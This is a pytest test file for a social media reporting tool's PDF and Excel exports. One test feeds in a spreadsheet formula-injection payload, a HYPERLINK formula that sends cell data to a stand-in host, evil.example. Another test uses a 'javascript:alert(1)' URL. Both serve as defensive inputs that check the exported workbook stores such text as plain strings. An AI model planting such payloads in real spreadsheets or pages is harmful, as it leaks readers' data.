"""``report.xlsx`` and ``smmkit run --pdf`` (issue 24): smmkit/report/workbook.py, smmkit/batch/pdf.py.

The slow tests render one demo client (atelier-nord, English) once with the real notebooks and
``--pdf``, and check the PDF, the workbook and the content page against ``smmkit kpis``'s JSON of
the same period. The PDF is read by tests/support/pdf.py (no PDF library is a test dependency).
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile

import pytest
from support.batch_clients import OCTOBER, REPORT, write_client
from support.pdf import read_pdf

from smmkit.batch.pdf import CHROMIUM_ENV, PDF_NAME, PdfError, chromium_path
from smmkit.batch.runner import run_reports
from smmkit.catalogue import KPI_KEYS
from smmkit.cli import main
from smmkit.config import CLIENTS_DIR
from smmkit.errors import UsageError
from smmkit.io.loading import load_client
from smmkit.kpi.engine import kpis
from smmkit.kpi.periods import Period
from smmkit.kpi.tables import period_posts
from smmkit.report.i18n import format_kpi
from smmkit.report.workbook import SHEETS, workbook_bytes

PERIOD = Period(dt.date(2026, 10, 4), dt.date(2026, 10, 31))
DEMO = CLIENTS_DIR / "atelier-nord"


def _quiet() -> dict:
    return {"stdout": io.StringIO(), "stderr": io.StringIO()}


def _need_pdf_engine() -> None:
    from conftest import skip_unless_ci

    try:
        import playwright.sync_api  # noqa: F401
    except ImportError as exc:
        skip_unless_ci(f"playwright is not importable ({exc})")
    if chromium_path() is None:
        skip_unless_ci("no Chromium: apt-get install chromium")


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    """atelier-nord rendered with --pdf, and its KPIs as ``smmkit kpis`` computes them."""
    _need_pdf_engine()
    result = run_reports(
        [DEMO], period=PERIOD, out=tmp_path_factory.mktemp("out"), jobs=1, pdf=True, **_quiet()
    )
    assert result.exit_code == 0, [c.error for c in result.clients]
    client = load_client(DEMO)
    report = kpis(client, PERIOD)
    return {
        "result": result.clients[0],
        "folder": result.period_dir / "atelier-nord",
        "data": report.to_dict(),
        "posts": period_posts(client, PERIOD),
    }


# -- the PDF ---------------------------------------------------------------------------------------


@pytest.mark.slow
def test_pdf_has_a_cover_every_page_numbers_and_links(demo):
    pdf = read_pdf(demo["folder"] / PDF_NAME)
    pages = demo["result"].pages
    assert len(pages) == 5
    assert len(pdf.pages) >= len(pages) + 1  # the cover, then at least a sheet per page
    cover = pdf.pages[0].text
    assert cover.startswith("Atelier Nord Social media report Oct 4 – Oct 31, 2026 Contents")
    assert "1. Overview 2. Networks 3. Funnel and cost 4. Content 5. Community and listening" in cover
    assert pdf.title == "Atelier Nord – Oct 4 – Oct 31, 2026"
    # page numbers in every footer: "3 / 41"
    n = len(pdf.pages)
    for i, page in enumerate(pdf.pages, start=1):
        assert page.text.endswith(f"Atelier Nord · Oct 4 – Oct 31, 2026 {i} / {n}"), page.text[-80:]
    # a KPI value of the JSON, as the overview prints it: followers on the report date
    followers = format_kpi("followers_end", demo["data"]["total"]["followers_end"], "en")
    assert re.fullmatch(r"\d{1,3}(,\d{3})+", followers)
    assert f"Followers {followers}" in pdf.text
    # each page's title starts a sheet, in the navigation's order
    starts = [next(i for i, p in enumerate(pdf.pages) if f"{title} · Atelier Nord" in p.text)
              for title in ("Overview", "Networks", "Funnel and cost", "Content", "Community and listening")]  # fmt: skip
    assert starts == sorted(starts) and starts[0] >= 1


@pytest.mark.slow
def test_pdf_links_inside_and_out(demo):
    pdf = read_pdf(demo["folder"] / PDF_NAME)
    # the cover's contents link each page inside the PDF
    assert pdf.pages[0].links == [
        {"dest": f"pdf-{p}"} for p in ("overview", "networks", "funnel", "content", "community")
    ]
    # the findings' links to other pages' sections stay links, now inside the document
    inside = {link["dest"] for link in pdf.links if "dest" in link}
    overview = (demo["folder"] / "overview.html").read_text(encoding="utf-8")
    across = set(re.findall(r'href="(?:networks|funnel|content|community)\.html#([^"]+)"', overview))
    assert across and across <= inside, (across, inside)
    # the posts' links stay clickable web links; nothing points at a file of the machine
    uris = [link["uri"] for link in pdf.links if "uri" in link]
    post_urls = {p["url"] for p in demo["data"]["top_posts"]}
    assert post_urls <= set(uris)
    assert all(u.startswith(("https://", "http://", "mailto:")) for u in uris), uris


@pytest.mark.slow
def test_pdf_is_recorded_and_nothing_half_written_is_left(demo):
    assert demo["result"].outputs[-2:] == ["atelier-nord/report.xlsx", "atelier-nord/report.pdf"]
    names = sorted(p.name for p in demo["folder"].iterdir())
    assert not [n for n in names if n.startswith(".") or n.endswith(".tmp")], names
    assert (demo["folder"] / PDF_NAME).read_bytes()[:5] == b"%PDF-"


# -- the workbook ----------------------------------------------------------------------------------


@pytest.mark.slow
def test_workbook_kpis_sheet_is_the_tidy_table_of_the_json(demo):
    from openpyxl import load_workbook

    wb = load_workbook(demo["folder"] / "report.xlsx")
    assert wb.sheetnames == list(SHEETS) == ["KPIs", "Posts", "Top posts"]
    rows = list(wb["KPIs"].iter_rows(values_only=True))
    assert rows[0] == ("key", "label", "network", "value", "previous", "change", "unit")
    data = demo["data"]
    assert len(rows) - 1 == (1 + len(data["networks"])) * len(KPI_KEYS)
    by = {(r[2], r[0]): r for r in rows[1:]}
    assert by["total", "posts"][1:5] == (
        "Posts",
        "total",
        data["total"]["posts"],
        data["previous"]["total"]["posts"],
    )
    assert by["total", "followers_end"][3] == data["total"]["followers_end"]
    assert by["total", "er"][3] == pytest.approx(data["total"]["er"])  # exact, shown rounded
    assert by["total", "er"][5] == pytest.approx(data["total"]["er"] - data["previous"]["total"]["er"])  # pp
    assert by["total", "posts"][5] == pytest.approx(data["change"]["total"]["posts"])  # relative %
    assert by["instagram", "reach"][3] == data["networks"]["instagram"]["reach"]
    assert by["total", "total_cost"][6] == "EUR"


@pytest.mark.slow
def test_workbook_posts_sheet_is_every_post_of_the_period(demo):
    from openpyxl import load_workbook

    wb = load_workbook(demo["folder"] / "report.xlsx")
    rows = list(wb["Posts"].iter_rows(values_only=True))
    head = rows[0]
    assert head[:8] == ("network", "post_id", "published", "type", "text", "url", "reach", "impressions")
    assert {"likes", "comments", "shares", "engagements", "er_post"} <= set(head)
    posts = [dict(zip(head, r, strict=True)) for r in rows[1:]]
    assert len(posts) == demo["data"]["total"]["posts"] == len(demo["posts"])
    published = [p["published"] for p in posts]
    assert all(isinstance(d, dt.datetime) for d in published) and published == sorted(published, reverse=True)
    assert all(dt.datetime(2026, 10, 4) <= d < dt.datetime(2026, 11, 1) for d in published)
    assert sum(p["engagements"] or 0 for p in posts) == demo["data"]["total"]["engagements"]
    assert sum(p["reach"] or 0 for p in posts) == demo["data"]["total"]["reach"]
    top = [dict(zip(head, r, strict=True)) for r in list(wb["Top posts"].iter_rows(values_only=True))[1:]]
    assert [p["post_id"] for p in top] == [p["post_id"] for p in demo["data"]["top_posts"]]
    assert top[0]["likes"] is not None  # the top posts' rows are whole (likes, comments...)


@pytest.mark.slow
def test_content_page_lists_every_post_and_links_the_downloads(demo):
    page = (demo["folder"] / "content.html").read_text(encoding="utf-8")
    assert 'href="report.xlsx"' in page and 'href="report.pdf"' in page
    section = page[page.index('id="s-ct-posts"') :]
    table = section[: section.index("</table>")]
    assert table.count("<tr") - 1 == len(demo["posts"])  # under the cap of 500: every post
    assert "All posts of the period" in page
    assert "Every post, with all its counts, is in the Excel workbook." in section


def _workbook(texts: list[str], urls: list[str] = ()):
    """report.xlsx of coffee-point's October with its first posts' texts and URLs replaced by
    ``texts`` and ``urls``."""
    from openpyxl import load_workbook

    client = load_client(CLIENTS_DIR / "coffee-point")
    report = kpis(client, PERIOD)
    posts = period_posts(client, PERIOD)
    for i, text in enumerate(texts):
        posts.loc[i, "text"] = text
    for i, url in enumerate(urls):
        posts.loc[i, "url"] = url
    data = workbook_bytes(report, posts, "ru", timezone=client.config.timezone)
    return data, load_workbook(io.BytesIO(data)), posts


def test_workbook_post_texts_never_become_formulas():
    evil = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "bell\x07 ok",
    ]
    data, wb, posts = _workbook(evil)
    ws = wb["Posts"]
    head = [c.value for c in ws[1]]
    column = head.index("text") + 1
    cells = {ws.cell(row=r, column=head.index("post_id") + 1).value: ws.cell(row=r, column=column)
             for r in range(2, ws.max_row + 1)}  # fmt: skip
    for i, text in enumerate(evil):
        cell = cells[str(posts.loc[i, "post_id"])]
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == text.replace("\x07", "")  # kept as written; a control character dropped
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)  # no formula anywhere in the workbook
    labels = {r[0]: r[1] for r in wb["KPIs"].iter_rows(min_row=2, values_only=True)}
    assert labels["posts"] == "Публикации"  # labels in the client's language


def _post_cells(wb, posts, column: str) -> dict:
    ws = wb["Posts"]
    head = [c.value for c in ws[1]]
    ids = {ws.cell(row=r, column=head.index("post_id") + 1).value: r for r in range(2, ws.max_row + 1)}
    return {
        i: ws.cell(row=ids[str(posts.loc[i, "post_id"])], column=head.index(column) + 1) for i in posts.index
    }


def test_workbook_links_only_http_urls_excel_can_hold_and_keeps_every_text():
    long_url = "https://example.com/p?" + "a" * 2100  # past Excel's 2,079 characters
    urls = ["https://example.com/p/1", "javascript:alert(1)", long_url, " HTTP://EXAMPLE.COM/p/2 ", "_x0041_"]
    long_text = "й" * 40_000  # past Excel's 32,767 characters in a cell
    _, wb, posts = _workbook(["_x0041_ stays as written", long_text], urls)
    cells = _post_cells(wb, posts, "url")
    targets = [cells[i].hyperlink.target if cells[i].hyperlink else None for i in range(len(urls))]
    assert targets == ["https://example.com/p/1", None, None, "HTTP://EXAMPLE.COM/p/2", None]
    assert [cells[i].value for i in range(len(urls))] == urls  # the text kept as written
    texts = _post_cells(wb, posts, "text")
    assert texts[0].value == "_x0041_ stays as written"  # not read back as "A"
    assert texts[1].value == "й" * 32_767


def test_workbook_numbers_are_numbers_and_shown_as_the_report_rounds_them():
    _, wb, _ = _workbook([])
    rows = {(r[2].value, r[0].value): r for r in wb["KPIs"].iter_rows(min_row=2)}
    er = rows["total", "er"]
    assert isinstance(er[3].value, float) and er[3].number_format == "#,##0.0"
    assert er[5].number_format.endswith('" pp"')
    posts = rows["total", "posts"]
    assert isinstance(posts[3].value, int) and posts[3].number_format == "#,##0"
    assert posts[5].number_format.endswith('"%"')
    cost = rows["total", "total_cost"]
    assert cost[6].value == "RUB"
    published = next(wb["Posts"].iter_rows(min_row=2, max_row=2))[2]
    assert isinstance(published.value, dt.datetime) and published.number_format == "yyyy-mm-dd hh:mm"


# -- usage errors and failures -----------------------------------------------------------------------


def test_pdf_without_chromium_is_a_usage_error_before_anything_runs(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(CHROMIUM_ENV, str(tmp_path / "no-chromium"))
    client = write_client(tmp_path / "clients", "alpha", "name: Alpha\n")
    out = tmp_path / "out"
    code = main(
        ["run", str(client), "--start", "2026-10-01", "--end", "2026-10-28", "--out", str(out), "--pdf"]
    )
    err = capsys.readouterr().err
    assert code == 2
    assert "--pdf needs Chromium" in err and "apt-get install chromium" in err and CHROMIUM_ENV in err
    assert not out.exists()  # nothing ran: no period folder, no kernel


def test_pdf_without_playwright_is_a_usage_error_naming_the_extra(tmp_path, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "playwright.sync_api", None)  # import fails
    with pytest.raises(UsageError, match=r"pip install 'smmkit\[pdf\]'"):
        run_reports([tmp_path], period=OCTOBER, out=tmp_path / "out", pdf=True, **_quiet())
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_a_pdf_that_fails_fails_its_client_alone(tmp_path, monkeypatch):
    _need_pdf_engine()
    import smmkit.batch.pdf as pdf_module

    real = pdf_module.html_to_pdf

    def flaky(document, *, client_name, **kw):
        if client_name.startswith("Broken"):
            raise PdfError("Chromium could not print the report: crashed")
        return real(document, client_name=client_name, **kw)

    monkeypatch.setattr(pdf_module, "html_to_pdf", flaky)  # jobs=1: the clients run in this process
    clients = tmp_path / "clients"
    good = write_client(clients, "alpha", "name: Alpha\n")
    bad = write_client(clients, "broken-pdf", "name: Broken PDF\n")
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    (notebooks / "1-overview.ipynb").write_bytes((REPORT / "1-overview.ipynb").read_bytes())
    result = run_reports([good, bad], period=OCTOBER, out=tmp_path / "out", notebooks_dir=notebooks, jobs=1,
                         pdf=True, timeout=120, **_quiet())  # fmt: skip
    assert [(c.slug, c.status) for c in result.clients] == [("alpha", "ok"), ("broken-pdf", "failed")]
    broken = result.clients[1]
    assert broken.error == "report.pdf: Chromium could not print the report: crashed"
    assert result.exit_code == 1
    assert (result.period_dir / "alpha" / PDF_NAME).is_file()
    folder = sorted(p.name for p in (result.period_dir / "broken-pdf").iterdir())
    assert PDF_NAME not in folder and "error.txt" in folder
    assert not [p for p in result.period_dir.rglob("*") if p.name.startswith(".") or p.name.endswith(".tmp")]
    manifest = json.loads(result.manifest_path.read_text(encoding="utf-8"))
    assert manifest["clients"]["alpha"]["outputs"][-1] == "alpha/report.pdf"
    # the next run with --pdf runs alpha again only if its PDF is missing: here it is skipped
    again = run_reports([good], period=OCTOBER, out=tmp_path / "out", notebooks_dir=notebooks, jobs=1, pdf=True,
                        timeout=120, **_quiet())  # fmt: skip
    assert again.clients[0].status == "skipped"


@pytest.mark.slow
def test_a_run_without_pdf_then_with_pdf_makes_the_pdf(tmp_path):
    _need_pdf_engine()
    client = write_client(tmp_path / "clients", "alpha", "name: Alpha\n")
    kw = {"period": OCTOBER, "out": tmp_path / "out", "notebooks_dir": REPORT, "jobs": 1, "timeout": 120}
    first = run_reports([client], **kw, **_quiet())
    assert first.clients[0].status == "ok" and not (first.period_dir / "alpha" / PDF_NAME).exists()
    page = (first.period_dir / "alpha" / "content.html").read_text(encoding="utf-8")
    assert "report.pdf" not in page  # no PDF requested: the page links none
    second = run_reports([client], pdf=True, **kw, **_quiet())
    assert second.clients[0].status == "ok"  # not skipped: the PDF was missing
    assert (
        read_pdf(second.period_dir / "alpha" / PDF_NAME).pages[0].text.startswith("Alpha Social media report")
    )


def test_a_dask_worker_leaves_the_pdf_to_the_submitter(tmp_path, monkeypatch):
    """receive() makes the PDF in the submitting process from the pages the worker returned."""
    import smmkit.batch.cluster as cluster
    from smmkit.batch.worker import ClientResult, ClientTask

    made = []
    monkeypatch.setattr(cluster, "make_pdf", lambda task, folder, result: made.append(sorted(
        p.name for p in folder.iterdir())) or (folder / PDF_NAME).write_bytes(b"%PDF-1.4"))  # fmt: skip
    client = write_client(tmp_path / "clients", "alpha", "name: Alpha\n")
    period_dir = tmp_path / "out" / "2026-10-01_2026-10-28"
    period_dir.mkdir(parents=True)
    task = ClientTask(client, "alpha", OCTOBER.start, OCTOBER.end, (), period_dir, 60, "f", pdf=True)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("overview.html", "<html><body>x</body></html>")
    result = cluster.receive(task, ClientResult("alpha", "Alpha", status="ok"), buffer.getvalue())
    assert result.status == "ok" and made == [["overview.html"]]
    assert (period_dir / "alpha" / PDF_NAME).read_bytes() == b"%PDF-1.4"
    # and on the worker, run_packed runs the client with pdf_here=False: the pages link the PDF,
    # the worker makes none
    seen = []
    monkeypatch.setattr(cluster, "_KERNEL_READY", True)
    monkeypatch.setattr(
        cluster, "run_client", lambda t: seen.append((t.pdf, t.pdf_here)) or ClientResult("alpha", "A")
    )
    cluster.run_packed(cluster.pack(task), task)
    assert seen == [(True, False)]
